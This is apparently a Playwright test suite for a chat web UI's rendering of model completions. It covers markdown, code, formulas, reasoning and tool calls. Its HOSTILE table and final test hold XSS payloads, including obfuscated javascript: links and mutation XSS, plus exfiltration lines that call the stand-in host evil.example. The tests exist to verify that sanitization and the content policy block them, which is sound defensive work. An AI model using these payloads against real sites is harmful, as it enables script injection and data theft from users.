"""Rendering of completions, and hostile completions, which the policy makes harmless."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from chatpage import Chat


def show(chat: Chat, *pieces: str) -> None:
    chat.complete_with(*pieces)
    chat.send("q")
    chat.done()


def test_markdown_is_rendered(chat: Chat) -> None:
    show(
        chat, "# Top\n\nSome **bold** and `code`.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n\n1. x\n2. y"
    )
    prose = chat.text
    expect(prose.get_by_role("heading", level=3)).to_have_text("Top")
    expect(prose.locator("strong")).to_have_text("bold")
    expect(prose.get_by_role("cell")).to_have_text(["1", "2"])
    expect(prose.locator("td.right")).to_have_css("text-align", "right")
    expect(prose.get_by_role("listitem")).to_have_text(["x", "y"])
    assert chat.complaints == []


def test_code_is_highlighted_and_copied(chat: Chat) -> None:
    code = "def f(x):\n    return x < 1"
    show(chat, f"```python\n{code}\n```")
    expect(chat.text.locator(".hljs-keyword").first).to_have_text("def")
    chat.text.get_by_role("button", name="Copy").click()
    expect(chat.text.get_by_role("button", name="Copied")).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == code
    assert chat.complaints == []


def test_formulas_are_typeset_and_have_mathml(chat: Chat) -> None:
    show(chat, "So \\(x^2\\) and\n\n$$\n\\frac{1}{2}\n$$\n\nbut $\\nonsense{$ stays")
    expect(chat.text.locator("math")).to_have_count(2)
    expect(chat.text.locator("math mfrac")).to_have_count(1)
    expect(chat.text.locator("math").first).to_have_text("x2")
    expect(chat.text.locator(".katex-html[aria-hidden=true]")).to_have_count(2)
    expect(chat.text).to_contain_text("\\nonsense{")
    assert chat.complaints == []


def test_formulas_have_their_fonts(chat: Chat) -> None:
    """Brackets are as high as what they enclose, columns are aligned, and the fonts come from the server."""
    loaded: list[str] = []
    chat.page.on("request", lambda request: loaded.append(request.url))
    show(
        chat,
        "$$\n\\begin{aligned} a + b &= c \\\\ d &= e + f + g \\end{aligned}"
        " \\quad \\left( \\frac{\\frac{1}{2}}{\\frac{3}{4}} \\right)\n$$",
    )
    expect(chat.text.locator(".katex")).to_have_count(1)
    chat.page.evaluate("document.fonts.ready")
    fonts = chat.page.evaluate(
        "[...document.fonts].filter((f) => f.status === 'loaded').map((f) => f.family)"
    )
    assert {"KaTeX_Main", "KaTeX_Math"} <= set(fonts)
    assert all(url.startswith(chat.url) for url in loaded if url.endswith(".woff2"))
    heights = """(all) => all.map((element) => element.getBoundingClientRect().height)"""
    bracket, fraction = (
        chat.text.locator(name).first.evaluate_all(heights)[0] for name in (".delimsizing", ".mfrac")
    )
    assert bracket > 0.8 * fraction
    relations = chat.text.locator(".mrel").evaluate_all(
        "(all) => all.map((e) => e.getBoundingClientRect().x)"
    )
    assert len(relations) == 2
    assert abs(relations[0] - relations[1]) < 1
    assert chat.complaints == []


def test_libraries_are_loaded_when_they_are_needed(chat: Chat) -> None:
    loaded: list[str] = []
    chat.page.on("request", lambda request: loaded.append(request.url))
    show(chat, "plain text")
    assert not [url for url in loaded if re.search("katex|highlighter", url)]
    show(chat, "$x$")
    expect(chat.text.locator("math")).to_have_count(1)
    assert [url for url in loaded if "katex" in url]
    assert not [url for url in loaded if "highlighter" in url]


def test_reasoning_is_folded(chat: Chat) -> None:
    chat.complete_with({"reasoning_content": "let me see"}, "yes")
    chat.send("q")
    expect(chat.text).to_have_text("yes")
    summary = chat.completion.get_by_text("Reasoning")
    expect(chat.completion.get_by_text("let me see")).to_have_count(0)
    summary.click()
    expect(chat.completion.get_by_text("let me see")).to_be_visible()
    show(chat, "<think>hm</think>", "no")
    expect(chat.text).to_have_text("no")
    expect(chat.completion.get_by_text("Reasoning")).to_be_visible()


def test_reasoning_in_progress_is_shown(fed: Chat) -> None:
    fed.send("q")
    fed.feed("<think>hm")
    expect(fed.completion.get_by_text("Thinking")).to_be_visible()
    fed.feed("</think>yes")
    expect(fed.text).to_have_text("yes")
    expect(fed.completion.get_by_text("Reasoning")).to_be_visible()
    fed.end()


def test_the_time_of_the_reasoning_is_shown(fed: Chat) -> None:
    """Also after a reload. Without any reasoning there is none."""
    fed.page.clock.install()
    fed.send("q")
    fed.feed("<think>hm")
    fed.page.clock.fast_forward("50:00")
    fed.feed(" so")
    expect(fed.completion.locator("summary")).to_have_text(re.compile(r"Thinking\s+for 3\d\d\d s"))
    fed.feed("</think>yes")
    fed.page.clock.fast_forward("50:00")
    fed.feed(" indeed")
    fed.end()
    for _ in range(2):
        expect(fed.completion.locator("summary")).to_have_text(re.compile(r"Reasoning\s+for 3\d\d\d s"))
        fed.reload()


def test_task_lists_and_line_breaks(chat: Chat) -> None:
    show(chat, "- [x] read **this**\n- [ ] and `that`\n- no task\n\n| a |\n|---|\n| one<br>two |\n")
    boxes = chat.text.get_by_role("checkbox")
    expect(boxes).to_have_count(2)
    expect(chat.text.get_by_role("checkbox", name="read this")).to_be_checked()
    expect(chat.text.get_by_role("checkbox", name="and that")).not_to_be_checked()
    expect(boxes.first).to_be_disabled()
    expect(chat.text.locator("td br")).to_have_count(1)
    expect(chat.text.get_by_role("cell")).to_have_text("one two")
    assert chat.complaints == []


def test_tool_calls_are_shown(chat: Chat) -> None:
    first = {"index": 0, "id": "call-1", "function": {"name": "weather", "arguments": '{"city":'}}
    rest = {"index": 0, "function": {"arguments": '"Oslo"}'}}
    chat.complete_with({"tool_calls": [first]}, {"tool_calls": [rest]}, finish="tool_calls")
    chat.send("q")
    call = chat.page.get_by_role("region", name="Tool call weather")
    expect(call).to_contain_text('"city": "Oslo"')
    expect(chat.completion).to_contain_text("asks for a tool")


HOSTILE = {
    "script": "<script>document.title='ran'</script>",
    "image handler": "<img src=x onerror=\"document.title='ran'\">",
    "svg": "<svg onload=\"document.title='ran'\"><animate onbegin=\"document.title='ran'\"></svg>",
    "iframe": "<iframe src=\"javascript:parent.document.title='ran'\"></iframe>",
    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "link": "[click](javascript:document.title='ran')",
    "link in capitals": "[click](JaVaScRiPt:document.title='ran')",
    "link with entities": "[click](java&#115;cript:document.title='ran')",
    "link with control": "[click](java\tscript:document.title='ran')",
    "data link": "[click](data:text/html,<script>document.title='ran'</script>)",
    "autolink": "<javascript:document.title='ran'>",
    "reference": "[click][x]\n\n[x]: javascript:document.title='ran'",
    "remote image": "![secret](https://evil.example/pixel.png?data=secret)",
    "remote image, no scheme": "![secret](//evil.example/pixel.png)",
    "own address": "![x](/metrics)",
    "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "style": "<style>body{display:none}</style><div style=\"background:url('https://evil.example')\">",
    "css import": "<link rel=stylesheet href=https://evil.example/x.css>@import 'https://evil.example/x.css'",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base and form": '<base href="https://evil.example/"><form action="//evil.example"><input name=a></form>',
    "code language": "```\"onmouseover=\"document.title='ran'\n<script>document.title='ran'</script>\n```",
    "maths": "$\\href{javascript:document.title='ran'}{x}$ $\\includegraphics{https://evil.example/x}$",
    "maths out of place": "$\\raisebox{900em}{x}\\kern-900em\\rule{900em}{900em}\\smash{\\rule{9em}{99em}}$",
    "maths with html": "$\\htmlStyle{background:url(//evil.example)}{x}$ \\(</annotation><img src=x>\\)",
    "mutation": '<math><mtext><table><mglyph><style><img src=x onerror="document.title=1">',
    "template": "{{constructor.constructor('document.title=1')()}} ${document.title=1}",
    "table of 400 columns": "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n|" + "b|" * 400,
    "deep nesting": ">" * 3000 + " deep",
    "many links": "[" * 5000,
    "emphasis": "*a_ " * 3000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_output_runs_and_fetches_nothing(chat: Chat, name: str) -> None:
    fetched: list[str] = []
    show(chat, "warm up $x$\n\n```python\n1\n```")
    expect(chat.text.locator("math")).to_have_count(1)
    chat.page.on("request", lambda request: fetched.append(request.url))
    chat.page.keyboard.press("Control+Shift+O")
    show(chat, HOSTILE[name])
    expect(chat.completions).to_have_count(1)
    expect(chat.completion.locator(".usage")).to_be_visible()
    for link in chat.text.get_by_role("link").all():
        assert re.match("https?:|mailto:", link.get_attribute("href") or "")
        assert link.get_attribute("target") == "_blank"
    bad = "script, iframe, object, embed, style, link, meta, base, form, img, [href]:not(a), [onload]"
    assert chat.text.locator(bad).count() == 0
    # KaTeX draws with vectors and sets sizes, places and colors, which hold no address.
    drawn = chat.text.locator("svg, [style]")
    assert drawn.count() == chat.text.locator(".katex").locator("svg, [style]").count()
    assert chat.text.locator("[style*='url'], .katex a, .katex [class*=maths]").count() == 0
    assert chat.page.title() == "q"
    # Chromium requests the icon of the page again when its address changes.
    # A page that was opened before it knew the model checks a second later whether the server stores chats.
    # The timeline and the count of tokens may come late, too.
    paths = ("v1/chat/completions", "v1/chats", "v1/requests", "tokenize", "assets/icon-", "assets/KaTeX_")
    own = tuple(f"{chat.url}/{path}" for path in paths)
    assert [url for url in fetched if not url.startswith(own)] == []
    assert chat.complaints == []
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_hostile_message_or_title_is_shown_as_text(chat: Chat) -> None:
    hostile = "<img src=x onerror=\"document.title='ran'\">"
    chat.complete_with("yes")
    chat.send(hostile)
    expect(chat.user_texts).to_have_text(hostile)
    expect(chat.sessions).to_have_text([hostile])
    assert chat.page.locator("main img, nav img").count() == 0
    assert chat.complaints == []


def test_bidi_overrides_end_with_the_message(chat: Chat) -> None:
    """What follows the message keeps its place."""
    show(chat, "\u202e\u2067plain")
    spans = chat.completion.locator(".usage span")
    expect(spans.first).to_have_text("3 tokens")
    boxes = [span.bounding_box() for span in spans.all()]
    places = [box["x"] for box in boxes if box is not None]
    assert len(places) == 2
    assert places == sorted(places)
    expect(chat.text).to_have_css("unicode-bidi", "isolate")


def test_the_policy_blocks_html_and_foreign_requests(chat: Chat) -> None:
    """Even code of the web UI cannot create HTML from a text, or fetch from another origin."""
    refused = chat.page.evaluate(
        """() => {
            const out = [];
            const tries = {
                html: () => { document.createElement("div").innerHTML = "<b>x</b>"; },
                policy: () => { trustedTypes.createPolicy("mine", {}); },
                url: () => { document.createElement("script").src = "https://evil.example/x.js"; },
            };
            for (const [name, run] of Object.entries(tries)) {
                try { run(); } catch { out.push(name); }
            }
            return out;
        }"""
    )
    assert refused == ["html", "policy", "url"]
    violated = chat.page.evaluate(
        """async () => {
            const found = new Set();
            const all = new Promise((done) => {
                addEventListener("securitypolicyviolation", (event) => {
                    found.add(event.effectiveDirective);
                    if (found.size === 3) done();
                });
            });
            const image = new Image();
            image.src = "https://evil.example/x.png";
            const frame = document.createElement("iframe");
            frame.src = "https://evil.example/";
            document.body.append(image, frame);
            await fetch("https://evil.example/").catch(() => 0);
            await all;
            return [...found].sort();
        }"""
    )
    assert violated == ["connect-src", "frame-src", "img-src"]
